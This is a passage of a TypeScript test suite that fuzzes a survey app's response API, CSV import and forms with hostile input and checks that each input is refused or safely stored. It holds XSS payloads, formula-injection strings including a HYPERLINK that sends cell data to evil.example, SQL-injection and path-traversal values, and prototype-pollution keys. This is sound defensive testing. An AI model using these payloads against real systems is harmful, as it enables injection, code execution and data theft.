/**
 * A corpus of hostile input against everything that takes input: POST /api/responses (malformed
 * JSON, wrong types everywhere, unknown questions, prototype keys, sizes at and over the bound,
 * chunked bodies, deep nesting, huge strings, invalid UTF-8, NUL, markup and formula text, wrong
 * Content-Type, wrong methods), the CSV import (library and command line), and the forms
 * (sign-in, language switch). Refusals must be a clear 4xx (JSON with `error`, and `fields`
 * where a field is at fault), never 5xx, and store nothing; text that is hostile only to a
 * browser or a spreadsheet is stored as the text it is and comes back escaped or neutralised.
 * The number of inputs tried is printed at the end.
 */
import { spawnSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getDb } from "~/db/db.server";
import { ImportError, importResponses } from "~/models/import.server";
import type { ResultsDocument } from "~/stats/types";
import { editionQuestionnaire, getEdition } from "~/models/survey.server";
import type { MeasureSet } from "~/stats/types";
import { csvCell, parseCsv } from "~/utils/csv";
import { resultsToCsv } from "~/utils/results-csv";
import { validAnswers } from "../helpers/answers";
import { ROOT, startServer, type RunningServer } from "../helpers/app-server";
import { countRows, createStaff, PASSWORDS, postForm, postSignIn, signIn } from "./helpers";

const SURVEY = "trygghetsmatning-2025";
const MAX = 64 * 1024;

let server: RunningServer;
let api: string;
let tried = 0;

beforeAll(async () => {
  // Rate limits are tested in rate-limit.test.ts; here every input must reach the code it tests.
  server = await startServer({ SECURE_COOKIES: "off", RATE_LIMIT_SUBMISSIONS: "off", RATE_LIMIT_SIGNIN: "off" });
  api = `${server.url}/api/responses`;
});

afterAll(async () => {
  await server?.stop();
  console.log(`Hostile inputs tried: ${tried}`);
});

// ---------------------------------------------------------------------------------------------
// Sending: a raw HTTP/1.1 client on a plain socket, so that bytes, lengths and chunking are
// exactly what the test says (and no library, nor msw's interception of node:http, changes them).

interface RawAnswer {
  status: number;
  headers: Record<string, string>;
  text: string;
  json: any;
}

function parseAnswer(raw: Buffer): RawAnswer {
  const all = raw.toString("latin1");
  const end = all.indexOf("\r\n\r\n");
  if (end < 0) throw new Error(`No HTTP answer: ${JSON.stringify(all.slice(0, 200))}`);
  const headers: Record<string, string> = {};
  for (const line of all.slice(0, end).split("\r\n").slice(1)) {
    const i = line.indexOf(":");
    headers[line.slice(0, i).toLowerCase()] = line.slice(i + 1).trim();
  }
  let body = raw.subarray(end + 4);
  if (headers["transfer-encoding"] === "chunked") {
    const pieces: Buffer[] = [];
    for (let at = 0; ; ) {
      const lineEnd = body.indexOf("\r\n", at);
      const size = parseInt(body.subarray(at, lineEnd).toString("latin1"), 16);
      if (!(size > 0)) break;
      pieces.push(body.subarray(lineEnd + 2, lineEnd + 2 + size));
      at = lineEnd + 2 + size + 2;
    }
    body = Buffer.concat(pieces);
  }
  const text = body.toString("utf8");
  let json: any = null;
  try {
    json = JSON.parse(text);
  } catch {
    json = null;
  }
  return { status: Number(all.split(" ")[1]), headers, text, json };
}

/** Whether a whole HTTP answer has arrived (by Content-Length or the chunked terminator). */
function isComplete(raw: Buffer, head: boolean): boolean {
  const end = raw.indexOf("\r\n\r\n");
  if (end < 0) return false;
  if (head) return true;
  const headText = raw.subarray(0, end).toString("latin1");
  const length = /\r\ncontent-length: *(\d+)/i.exec(headText);
  if (length) return raw.length - end - 4 >= Number(length[1]);
  if (/\r\ntransfer-encoding: *chunked/i.test(headText)) return raw.subarray(end).includes("\r\n0\r\n\r\n");
  return false;
}

function send(options: {
  method?: string;
  path?: string;
  headers?: Record<string, string>;
  body?: Buffer | string;
  /** Send the body in these pieces with Transfer-Encoding: chunked (no Content-Length). */
  chunks?: Iterable<Buffer>;
  /** Declare this Content-Length whatever the body is. */
  contentLength?: number;
}): Promise<RawAnswer> {
  tried++;
  const body = typeof options.body === "string" ? Buffer.from(options.body, "utf8") : options.body;
  // A browser's form post carries Origin (the server refuses posts with neither Origin nor Referer).
  const origin: Record<string, string> = options.method === "GET" || options.method === "HEAD" ? {} : { Origin: server.url };
  const headers: Record<string, string> = { Host: new URL(server.url).host, ...origin, ...options.headers };
  if (options.chunks) headers["Transfer-Encoding"] = "chunked";
  else if (options.contentLength !== undefined) headers["Content-Length"] = String(options.contentLength);
  else if (body) headers["Content-Length"] = String(body.length);
  const head = `${options.method ?? "POST"} ${options.path ?? "/api/responses"} HTTP/1.1\r\n${Object.entries(headers)
    .map(([k, v]) => `${k}: ${v}\r\n`)
    .join("")}\r\n`;
  return new Promise((resolve, reject) => {
    const socket = net.connect(Number(new URL(server.url).port), "127.0.0.1");
    const received: Buffer[] = [];
    const timer = setTimeout(() => socket.destroy(new Error("no answer in 30 s")), 30_000);
    // The server may answer and close before a large body is all sent: that is its right.
    socket.on("error", (error) => {
      if (received.length === 0) {
        clearTimeout(timer);
        reject(error);
      }
    });
    let done = false;
    const finish = () => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      try {
        resolve(parseAnswer(Buffer.concat(received)));
      } catch (error) {
        reject(error);
      }
    };
    socket.on("data", (d) => {
      received.push(d);
      if (isComplete(Buffer.concat(received), options.method === "HEAD")) finish();
    });
    socket.on("close", () => {
      if (done) return;
      clearTimeout(timer);
      if (received.length === 0) reject(new Error("connection closed without an answer"));
      else finish();
    });
    socket.on("connect", () => {
      socket.write(head);
      if (!options.chunks) {
        if (body) socket.write(body);
        return;
      }
      const it = options.chunks[Symbol.iterator]();
      const pump = () => {
        for (;;) {
          if (received.length > 0 || socket.destroyed) return;
          const next = it.next();
          if (next.done) return void socket.write("0\r\n\r\n");
          if (next.value.length === 0) continue;
          const ok = socket.write(Buffer.concat([Buffer.from(`${next.value.length.toString(16)}\r\n`), next.value, Buffer.from("\r\n")]));
          if (!ok) return void socket.once("drain", pump);
        }
      };
      pump();
    });
  });
}

const json = (body: unknown) => send({ headers: { "Content-Type": "application/json" }, body: typeof body === "string" ? body : JSON.stringify(body) });

function envelope(answers: unknown = validAnswers(), extra: Record<string, unknown> = {}) {
  return { survey: SURVEY, clientId: randomUUID(), answers, ...extra };
}

/** Everything that a submission writes, to show that a refused one wrote nothing. */
async function footprint() {
  const db = getDb();
  const cells = await db
    .selectFrom("cell_stat")
    .select((eb) => eb.fn.sum<number>("n").as("n"))
    .executeTakeFirstOrThrow();
  return {
    responses: await countRows(db, "response"),
    cells: Number(cells.n ?? 0),
    editions: await countRows(db, "survey_edition"),
  };
}

/**
 * Checks a refusal: 4xx (or exactly `status`), JSON with a non-empty `error`, `fields` naming
 * `field` when given. Returns a problem description, or null when it is fine.
 */
function refusal(label: string, res: RawAnswer, expected: { status?: number; field?: string } = {}): string | null {
  const where = `${label}: ${res.status} ${res.text.slice(0, 160)}`;
  if (expected.status ? res.status !== expected.status : res.status < 400 || res.status >= 500) return `${where} (expected ${expected.status ?? "4xx"})`;
  if (!/^application\/json/.test(res.headers["content-type"] ?? "")) return `${where} (not JSON)`;
  if (res.status !== 405 || res.text !== "") {
    if (typeof res.json?.error !== "string" || res.json.error.length === 0) return `${where} (no error message)`;
  }
  if (expected.field !== undefined && !(Array.isArray(res.json?.fields?.[expected.field]) && res.json.fields[expected.field].length > 0)) {
    return `${where} (no fields[${JSON.stringify(expected.field)}])`;
  }
  return null;
}

/** Runs cases that must all be refused; asserts none was accepted or failed with 5xx, and nothing was stored. */
async function expectAllRefused(cases: [label: string, run: () => Promise<RawAnswer>, expected?: { status?: number; field?: string }][]) {
  const before = await footprint();
  const problems: string[] = [];
  for (const [label, run, expected] of cases) {
    const problem = refusal(label, await run(), expected);
    if (problem) problems.push(problem);
  }
  expect(problems).toEqual([]);
  expect(await footprint()).toEqual(before);
}

// ---------------------------------------------------------------------------------------------

describe("POST /api/responses", () => {
  it("malformed JSON: 400", async () => {
    const bodies = [
      "", " ", "{", "}", "[", "{not json", "[1,2", '{"survey":}', "nul", "tru", "undefined", "NaN", "Infinity",
      "{'survey':'x'}", '{"a":1,}', "/* comment */ {}", '{"a":1}{"b":2}', "0x10", "{\"a\":\"\u0001\"}", '{"a":"\\x41"}',
      '{"a":"\\u12"}', '{"a":01}', '{"a":.5}', "\u00A0{}", '{"survey": "a"\n', "\0", "{\0}",
    ];
    await expectAllRefused(bodies.map((b) => [`body ${JSON.stringify(b)}`, () => json(b), { status: 400 }]));
  });

  it("JSON that is not a submission object: 400", async () => {
    const bodies = ["null", "true", "0", "-1", '"string"', "[]", "[{}]", "{}", JSON.stringify([envelope()])];
    await expectAllRefused(bodies.map((b) => [`body ${b.slice(0, 60)}`, () => json(b), { status: 400 }]));
  });

  it("wrong types in the envelope: 400 naming the field", async () => {
    const wrong: [string, unknown[]][] = [
      ["survey", [1, null, [], {}, true, "", "x".repeat(101), "TRYGGHETSMATNING-2025", "../../etc/passwd", "trygghetsmatning-2025\u0000", "trygghetsmatning 2025", "trygghetsmatning-2025\n", ["trygghetsmatning-2025"]]],
      ["clientId", [1, null, "not-a-uuid", "00000000-0000-0000-0000-000000000000", ` ${randomUUID()}`, `${randomUUID()}x`, {}, [randomUUID()], "x".repeat(60_000)]],
      ["answers", [null, [], "area=ahus", 1, true, [validAnswers()]]],
      ["channel", ["email", "import", 1, true, {}, ["web"], "WEB"]],
      ["sessionId", ["x", 1, {}, [], true, "not-a-uuid"]],
    ];
    const cases: Parameters<typeof expectAllRefused>[0] = [];
    for (const [field, values] of wrong) {
      for (const value of values) cases.push([`${field}=${JSON.stringify(value).slice(0, 40)}`, () => json({ ...envelope(), [field]: value }), { status: 400, field }]);
    }
    const missing = ["survey", "clientId", "answers"].map((field): Parameters<typeof expectAllRefused>[0][number] => {
      const body: Record<string, unknown> = envelope();
      delete body[field];
      return [`without ${field}`, () => json(body), { status: 400, field }];
    });
    await expectAllRefused([...cases, ...missing]);
  });

  it("wrong types for every question: 400 naming the question", async () => {
    const edition = await getEdition({ db: getDb(), id: SURVEY });
    const questions = editionQuestionnaire(edition!).questions;
    expect(questions.size).toBeGreaterThan(20);
    const wrongFor: Record<string, unknown[]> = {
      // (An empty list, like "" and null, means "not answered" and is dropped, not refused.)
      choice: [true, false, {}, [1], 1.5, -1, 1e308, "nonsense", "2 ", { $gt: "" }, [[]], "<script>"],
      multi: ["theft", 1, true, {}, [1.5], [{}], [true], [["theft"]], ["theft", "theft"], ["none", "theft"], ["nonsense"], { 0: "theft" }],
      text: [1, true, {}, ["text"], { text: "x" }, 0, "x".repeat(2001), "\ud800", "a\udfffb"],
      number: ["1", true, {}, [], 1e400],
      boolean: ["true", 1, {}, []],
    };
    const cases: Parameters<typeof expectAllRefused>[0] = [];
    for (const [name, info] of questions) {
      for (const value of wrongFor[info.kind]) {
        // JSON.stringify turns 1e400 (Infinity) into null; write it as JSON text instead.
        const body = JSON.stringify(envelope(validAnswers({ [name]: "__VALUE__" }))).replace('"__VALUE__"', value === Infinity ? "1e400" : JSON.stringify(value));
        cases.push([`${name}=${JSON.stringify(value).slice(0, 40)}`, () => json(body), { status: 400, field: name }]);
      }
    }
    expect(cases.length).toBeGreaterThan(250);
    await expectAllRefused(cases);
  });

  it("unknown questions, also named like built-in properties: 400 naming them", async () => {
    const names = [
      "favourite_colour", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__",
      "area ", " area", "AREA", "", "a".repeat(10_000), "suggestion\u0000", "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "../area", "area.0",
    ];
    await expectAllRefused(
      names.map((name) => {
        // As JSON text, so that "__proto__" is an own key (as it is for JSON.parse on the server).
        const answers = `{"area":"ahus",${JSON.stringify(name)}:"x"}`;
        const body = `{"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":${answers}}`;
        return [`question ${JSON.stringify(name).slice(0, 40)}`, () => json(body), { status: 400, field: name }];
      }),
    );
  });

  it("__proto__, constructor and prototype keys at the top level and inside answers pollute nothing", async () => {
    const id = randomUUID();
    const pollute = JSON.stringify(validAnswers()).slice(1, -1);
    const bodies = [
      `{"__proto__":{"survey":"${SURVEY}","clientId":"${id}","answers":{${pollute}}},"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{${pollute}}}`,
      `{"constructor":{"prototype":{"survey":"${SURVEY}","answers":{}}},"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{${pollute}}}`,
      `{"prototype":{"clientId":"${id}"},"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{${pollute}}}`,
      `{"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{"__proto__":{"area":"ahus","polluted":true},${pollute}}}`,
      `{"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{"constructor":{"prototype":{"polluted":true}},${pollute}}}`,
      `{"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{"area":{"__proto__":{"polluted":true}}}}`,
      `{"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{"victim":[{"__proto__":{"polluted":true}}],"area":"ahus"}}`,
      `{"__proto__":null,"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{"area":"ahus"}}`,
    ];
    await expectAllRefused(bodies.map((b, i) => [`prototype body ${i}`, () => json(b), { status: 400 }]));
    // Had anything reached Object.prototype, these would pass for complete submissions.
    await expectAllRefused([
      ["empty object after the attempts", () => json("{}"), { status: 400, field: "survey" }],
      ["answers without area after the attempts", () => json(envelope({ gender: "woman" })), { status: 400, field: "area" }],
    ]);
  });

  it("bodies at and over 64 KB, with and without Content-Length", async () => {
    const exact = (size: number, clientId: string) => {
      const text = JSON.stringify(envelope(validAnswers(), { clientId }));
      return Buffer.from(text.slice(0, -1) + " ".repeat(size - Buffer.byteLength(text)) + "}", "utf8");
    };
    const before = await footprint();
    const atLimit = randomUUID();
    const body = exact(MAX, atLimit);
    expect(body.length).toBe(MAX);
    const accepted = await send({ headers: { "Content-Type": "application/json" }, body });
    expect(accepted.status).toBe(201);
    const chunkedAtLimit = randomUUID();
    const chunkedBody = exact(MAX, chunkedAtLimit);
    const pieces = Array.from({ length: Math.ceil(MAX / 1000) }, (_, i) => chunkedBody.subarray(i * 1000, (i + 1) * 1000));
    expect((await send({ headers: { "Content-Type": "application/json" }, chunks: pieces })).status).toBe(201);
    const oneByte = randomUUID();
    const tiny = Buffer.from(JSON.stringify(envelope(validAnswers(), { clientId: oneByte })));
    expect((await send({ headers: { "Content-Type": "application/json" }, chunks: [...tiny].map((b) => Buffer.from([b])) })).status).toBe(201);
    expect((await footprint()).responses).toBe(before.responses + 3);

    const overIds = [randomUUID(), randomUUID(), randomUUID()];
    function* endless(): Generator<Buffer> {
      yield Buffer.from(`{"survey":"${SURVEY}","clientId":"${overIds[2]}","answers":{"area":"ahus"},"pad":"`);
      for (let i = 0; i < 10_000; i++) yield Buffer.alloc(1024, 0x61); // 10 MB if nobody stops it
    }
    await expectAllRefused([
      ["64 KB + 1 with Content-Length", () => send({ headers: { "Content-Type": "application/json" }, body: exact(MAX + 1, overIds[0]) }), { status: 413 }],
      ["64 KB + 1 chunked", () => send({ headers: { "Content-Type": "application/json" }, chunks: [exact(MAX + 1, overIds[1])] }), { status: 413 }],
      ["10 MB chunked", () => send({ headers: { "Content-Type": "application/json" }, chunks: endless() }), { status: 413 }],
      ["Content-Length of 10 GB declared, 2 bytes sent", () => send({ headers: { "Content-Type": "application/json" }, contentLength: 10 * 1024 ** 3, body: "{}" }), { status: 413 }],
      ["100,000 nested arrays (200 KB)", () => json("[".repeat(100_000) + "]".repeat(100_000)), { status: 413 }],
    ]);
    const rows = await getDb().selectFrom("response").select("client_id").where("client_id", "in", overIds).execute();
    expect(rows).toEqual([]);
  });

  it("deep nesting within 64 KB: 400", async () => {
    const depth = 30_000;
    const arrays = "[".repeat(depth) + "]".repeat(depth);
    const objects = '{"a":'.repeat(10_000) + "1" + "}".repeat(10_000);
    const inAnswer = (name: string, nested: string) => `{"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{"area":"ahus","${name}":${nested}}}`;
    await expectAllRefused([
      ["30,000 nested arrays as the body", () => json(arrays), { status: 400 }],
      ["10,000 nested objects as the body", () => json(objects), { status: 400 }],
      ["nested arrays as the survey", () => json(`{"survey":${arrays},"clientId":"${randomUUID()}","answers":{}}`), { status: 400, field: "survey" }],
      ["nested arrays as answers", () => json(`{"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":${arrays}}`), { status: 400, field: "answers" }],
      ["nested arrays in a choice", () => json(inAnswer("gender", arrays)), { status: 400, field: "gender" }],
      ["nested arrays in free text", () => json(inAnswer("suggestion", arrays)), { status: 400, field: "suggestion" }],
      ["nested objects in a choice", () => json(inAnswer("gender", objects)), { status: 400, field: "gender" }],
      ["nested objects in free text", () => json(inAnswer("suggestion", objects)), { status: 400, field: "suggestion" }],
      ["nested objects as an unknown question", () => json(inAnswer("shoe_size", objects)), { status: 400, field: "shoe_size" }],
      ["1,000 nested arrays in a multi-choice", () => json(inAnswer("victim", "[".repeat(1000) + "]".repeat(1000))), { status: 400, field: "victim" }],
    ]);
  });

  // An element nested deep enough to overflow JSON.stringify must be refused as a non-scalar.
  it("deep nesting inside a multi-choice answer: 400", async () => {
    const arrays = "[".repeat(30_000) + "]".repeat(30_000);
    const objects = '{"a":'.repeat(10_000) + "1" + "}".repeat(10_000);
    const body = (nested: string) => `{"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{"area":"ahus","victim":[${nested}]}}`;
    await expectAllRefused([
      ["30,000 nested arrays in a multi-choice", () => json(body(arrays)), { status: 400, field: "victim" }],
      ["10,000 nested objects in a multi-choice", () => json(body(objects)), { status: 400, field: "victim" }],
    ]);
  });

  it("huge strings: 400 with a clear JSON error", async () => {
    const big = "å".repeat(30_000); // 60 KB of UTF-8
    await expectAllRefused([
      ["60 KB suggestion", () => json(envelope(validAnswers({ suggestion: big }))), { status: 400, field: "suggestion" }],
      ["2,001-character suggestion", () => json(envelope(validAnswers({ suggestion: "x".repeat(2001) }))), { status: 400, field: "suggestion" }],
      ["60 KB area", () => json(envelope(validAnswers({ area: big }))), { status: 400, field: "area" }],
      ["60 KB survey id", () => json({ ...envelope(), survey: big }), { status: 400, field: "survey" }],
      ["60 KB key", () => json(`{"survey":"${SURVEY}","clientId":"${randomUUID()}","answers":{"area":"ahus","${"k".repeat(60_000)}":1}}`), { status: 400 }],
      ["30,000 list elements", () => json(envelope(validAnswers({ victim: Array(30_000).fill(1) }))), { status: 400, field: "victim" }],
      ["6,000 keys", () => json(envelope(Object.fromEntries(Array.from({ length: 6000 }, (_, i) => [`q${i}`, 1])))), { status: 400, field: "q0" }],
    ]);
    // The 2,000-character limit is on characters, not bytes: 2,000 "å" (4 KB) are fine.
    const ok = await json(envelope(validAnswers({ suggestion: "å".repeat(2000) })));
    expect(ok.status).toBe(201);
  });

  it("invalid UTF-8 and NUL bytes in the body: 400", async () => {
    const raw = (bytes: number[]) => {
      const text = JSON.stringify(envelope(validAnswers({ suggestion: "@@" })));
      const [head, tail] = text.split("@@");
      return Buffer.concat([Buffer.from(head), Buffer.from(bytes), Buffer.from(tail)]);
    };
    const sequences: [string, number[]][] = [
      ["0xFF", [0xff]],
      ["0xFE 0xFF", [0xfe, 0xff]],
      ["Latin-1 å (0xE5)", [0x46, 0x72, 0xe5, 0x67, 0x61]],
      ["lone continuation byte", [0x80]],
      ["truncated 2-byte sequence", [0xc3]],
      ["bad continuation", [0xc3, 0x28]],
      ["overlong slash", [0xc0, 0xaf]],
      ["overlong NUL", [0xc0, 0x80]],
      ["UTF-8 encoded surrogate", [0xed, 0xa0, 0x80]],
      ["beyond U+10FFFF", [0xf4, 0x90, 0x80, 0x80]],
      ["5-byte form", [0xf8, 0x88, 0x80, 0x80, 0x80]],
      ["truncated 4-byte sequence", [0xf0, 0x9f, 0x98]],
      ["raw NUL inside a string", [0x00]],
      ["raw control characters inside a string", [0x01, 0x1b, 0x7f]],
    ];
    await expectAllRefused(
      sequences.map(([label, bytes]) => [label, () => send({ headers: { "Content-Type": "application/json" }, body: raw(bytes) }), { status: 400 }]),
    );
    // Invalid UTF-8 in a key and in the survey id, and a body ending mid-character.
    await expectAllRefused([
      ["0xFF in a key", () => send({ headers: { "Content-Type": "application/json" }, body: Buffer.concat([Buffer.from('{"'), Buffer.from([0xff]), Buffer.from('":1}')]) }), { status: 400 }],
      ["body ending mid-character", () => send({ headers: { "Content-Type": "application/json" }, body: Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xe2, 0x82])]) }), { status: 400 }],
      ["gzip-compressed body", () => send({ headers: { "Content-Type": "application/json", "Content-Encoding": "gzip" }, body: gzipSync(JSON.stringify(envelope())) }), { status: 400 }],
      // Declared UTF-16: refused by its type (415), not read as UTF-8.
      ["UTF-16 body", () => send({ headers: { "Content-Type": "application/json; charset=utf-16" }, body: Buffer.from(`\ufeff${JSON.stringify(envelope())}`, "utf16le") }), { status: 415 }],
      ["JSON Patch type", () => send({ headers: { "Content-Type": "application/json-patch+json" }, body: JSON.stringify(envelope()) }), { status: 415 }],
      ["JSON with another parameter", () => send({ headers: { "Content-Type": "application/json; profile=x" }, body: JSON.stringify(envelope()) }), { status: 415 }],
    ]);
  });

  it("markup, formulas, SQL and Unicode tricks in free text are stored exactly as text", async () => {
    const texts = [
      "<script>alert(1)</script>",
      "</script><script>alert(document.cookie)</script>",
      '"><img src=x onerror=alert(1)>',
      "<svg/onload=alert(1)>",
      "javascript:alert(1)",
      '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")',
      "+cmd|' /C calc'!A0",
      "-1+1",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "=1+1\r\n=2+2",
      "'; DROP TABLE response; --",
      "\" OR 1=1 --",
      "${7*7} {{7*7}} #{7*7} <%= 7*7 %>",
      "\u202Egnissim\u202C gatlampor",
      "Zero\u200Bwidth\u200Djoiner\uFEFF",
      "👩‍👩‍👧 ÅÄÖ åäö ﷽",
      "a\\u0000b \\n literal backslashes",
      "\u0000 NUL escaped in JSON",
      "line\nbreaks\r\nand\ttabs",
    ];
    const stored: { clientId: string; text: string; id: string }[] = [];
    const problems: string[] = [];
    for (const text of texts) {
      const clientId = randomUUID();
      const res = await json(envelope(validAnswers({ suggestion: text }), { clientId }));
      if (res.status === 201) stored.push({ clientId, text, id: res.json.id });
      else if (res.status >= 500 || res.status < 400 || typeof res.json?.error !== "string") problems.push(`${JSON.stringify(text)}: ${res.status} ${res.text.slice(0, 200)}`);
      else if (!res.json.fields?.suggestion) problems.push(`${JSON.stringify(text)}: refused without naming the suggestion: ${res.text}`);
    }
    expect(problems).toEqual([]);
    // Only the NUL may be refused (PostgreSQL cannot store it in text); everything else is stored.
    expect(stored.map((s) => s.text)).toEqual(texts.filter((t) => !(t.includes("\u0000") && stored.every((s) => s.text !== t))));
    expect(stored.length).toBeGreaterThanOrEqual(texts.length - 1);
    for (const s of stored) {
      const row = await getDb().selectFrom("response").select("answers_json").where("id", "=", s.id).executeTakeFirstOrThrow();
      expect(JSON.parse(row.answers_json).suggestion).toBe(s.text);
    }
  });

  it("wrong Content-Type: 415", async () => {
    const body = JSON.stringify(envelope());
    const types = [
      undefined,
      "",
      "text/plain",
      "text/json",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "application/javascript",
      "application/xml",
      "application/jsonp",
      "json",
    ];
    await expectAllRefused(
      types.map((type) => [`Content-Type ${JSON.stringify(type)}`, () => send({ headers: type === undefined ? {} : { "Content-Type": type }, body }), { status: 415 }]),
    );
    const form = new URLSearchParams({ survey: SURVEY, clientId: randomUUID(), "answers[area]": "ahus" }).toString();
    await expectAllRefused([["a form post", () => send({ headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: form }), { status: 415 }]]);
  });

  it("other methods: 405 with Allow: POST", async () => {
    const body = JSON.stringify(envelope());
    const methods = ["GET", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS"];
    const before = await footprint();
    const problems: string[] = [];
    for (const method of methods) {
      const res = await send({ method, headers: { "Content-Type": "application/json" }, body: method === "GET" || method === "HEAD" ? undefined : body });
      if (res.status !== 405 || res.headers.allow !== "POST") problems.push(`${method}: ${res.status} allow=${res.headers.allow}`);
      if (method !== "HEAD" && typeof res.json?.error !== "string") problems.push(`${method}: no JSON error: ${res.text.slice(0, 100)}`);
    }
    // As a Remix data request and with ?index: the same action, the same rules.
    const data = await send({ path: "/api/responses?_data=routes%2Fapi.responses", headers: { "Content-Type": "text/plain" }, body });
    if (data.status !== 415) problems.push(`?_data: ${data.status}`);
    expect(problems).toEqual([]);
    expect(await footprint()).toEqual(before);
  });

  it("after all of it the server still takes a valid answer and logged no crash", async () => {
    const res = await json(envelope());
    expect(res.status).toBe(201);
    expect(server.child.exitCode).toBeNull();
    expect(server.output()).not.toMatch(/uncaught|unhandled|FATAL|heap out of memory/i);
  });
});

// ---------------------------------------------------------------------------------------------

describe("CSV import", () => {
  const header = "area,gender,age_group,safe_evening,victim,suggestion";
  let year = 2000;

  async function importText(csvText: string) {
    tried++;
    return importResponses({ db: getDb(), seriesId: "trygghetsmatning", year: ++year, csvText });
  }

  async function expectImportRefused(label: string, csvText: string, line: number | null, message: RegExp) {
    const before = await footprint();
    const error = await importText(csvText).then(
      () => null,
      (e: unknown) => e,
    );
    expect(error, label).toBeInstanceOf(ImportError);
    const problems = (error as ImportError).problems;
    const text = problems.map((p) => `line ${p.line}: ${p.messages.join("; ")}`).join("\n");
    expect(text, label).toMatch(message);
    if (line !== null) expect(problems.map((p) => p.line), label).toContain(line);
    expect(await footprint(), `${label}: nothing stored, no edition left behind`).toEqual(before);
  }

  it("broken files: a clear error line, nothing stored", async () => {
    const good = "ahus,woman,25-44,2,theft|fraud,Bra";
    await expectImportRefused("unclosed quote", `${header}\n${good}\nahus,man,25-44,2,,"inte stängd\n${good}\n`, 3, /quoted field is not closed/);
    await expectImportRefused("quote inside a field", `${header}\nahus,man,25-44,2,,fel"citat\n`, 2, /quote inside an unquoted field/);
    await expectImportRefused("text after a closing quote", `${header}\nahus,man,25-44,2,,"citat"x\n`, 2, /after a closing quote/);
    await expectImportRefused("too many fields", `${header}\n${good}\n${good},extra\n`, 3, /expected 6 fields, found 7/);
    await expectImportRefused("too few fields", `${header}\nahus,man\n`, 2, /expected 6 fields, found 2/);
    await expectImportRefused("empty file", "", 1, /no header row/);
    await expectImportRefused("header only", `${header}\n`, 1, /no header row/);
    await expectImportRefused("BOM only", "\uFEFF", 1, /no header row/);
    await expectImportRefused("duplicate column", `area,area\nahus,ahus\n`, 1, /column given twice: area/);
    await expectImportRefused("unknown columns", `area,__proto__,constructor\nahus,1,2\n`, 1, /unknown column\(s\): __proto__, constructor/);
    await expectImportRefused("a huge cell", `${header}\nahus,man,25-44,2,,"${"x".repeat(200_000)}"\n`, 2, /suggestion: Text longer than 2000/);
    await expectImportRefused("a value not listed", `${header}\n${good}\natlantis,man,25-44,2,,\n`, 3, /area: Not one of the listed values/);
    await expectImportRefused("a lone surrogate", `${header}\nahus,man,25-44,2,,a\ud800b\n`, 2, /suggestion: Text is not valid Unicode/);
    // 500 good rows and one bad one at the end: nothing of the 500 is stored.
    await expectImportRefused("one bad row after many good", `${header}\n${Array(500).fill(good).join("\n")}\nahus,man,25-44,7,,\n`, 502, /safe_evening/);
  });

  it("BOM, CRLF, lone CR, quoted line breaks and formula text: stored correctly, as text", async () => {
    const formulas = ['=HYPERLINK("http://evil.example","klick")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)", "<script>alert(1)</script>"];
    const rows = formulas.map((f) => `ahus,woman,25-44,2,theft,"${f.replace(/"/g, '""')}"`);
    const cases: [string, string][] = [
      ["BOM + CRLF", `\uFEFF${header}\r\n${rows.join("\r\n")}\r\n`],
      ["LF, no final line break", `${header}\n${rows.join("\n")}`],
      ["lone CR", `${header}\r${rows.join("\r")}\r`],
    ];
    for (const [label, text] of cases) {
      const result = await importText(text);
      expect(result.stored, label).toBe(formulas.length);
      const stored = await getDb().selectFrom("response").select(["answers_json", "area"]).where("edition_id", "=", result.editionId).execute();
      expect(stored.map((r) => JSON.parse(r.answers_json).suggestion).sort(), label).toEqual([...formulas].sort());
      expect(stored.every((r) => r.area === "ahus"), label).toBe(true);
    }
    const multiline = await importText(`${header}\r\nahus,woman,25-44,2,,"rad ett\r\nrad två, med ""citat"""\r\n`);
    const row = await getDb().selectFrom("response").select("answers_json").where("edition_id", "=", multiline.editionId).executeTakeFirstOrThrow();
    expect(JSON.parse(row.answers_json).suggestion).toBe('rad ett\r\nrad två, med "citat"');
  });

  // A file saved as Windows-1252/Latin-1 must not be stored with U+FFFD in place of å, ä, ö.
  it("the command line refuses a file that is not UTF-8", async () => {
    tried++;
    const file = path.join(process.env.TD_TEST_DIR!, "latin1.csv");
    fs.writeFileSync(file, Buffer.concat([Buffer.from(`${header}\nahus,woman,25-44,2,,Fr`), Buffer.from([0xe5]), Buffer.from("ga om belysning\n")]));
    const before = await footprint();
    const out = spawnSync(process.execPath, ["--import", "tsx", "app/cli/main.ts", "import-responses", "--series", "trygghetsmatning", "--year", "1990", "--file", file], {
      cwd: ROOT,
      encoding: "utf8",
      env: process.env,
    });
    const after = await footprint();
    const rows = await getDb().selectFrom("response").select("answers_json").where("edition_id", "=", "trygghetsmatning-1990").execute();
    // Either refused with a clear message and nothing stored, or stored correctly: never "Fr�ga".
    if (out.status === 0) {
      expect(rows.map((r) => JSON.parse(r.answers_json).suggestion)).toEqual(["Fråga om belysning"]);
    } else {
      expect(out.stderr).toMatch(/UTF-8/);
      expect(after).toEqual(before);
    }
  });
});

// ---------------------------------------------------------------------------------------------

describe("forms", () => {
  let emails: Awaited<ReturnType<typeof createStaff>>;

  beforeAll(async () => {
    emails = await createStaff(getDb(), "hostile");
  });

  async function sessions() {
    return countRows(getDb(), "user_session");
  }

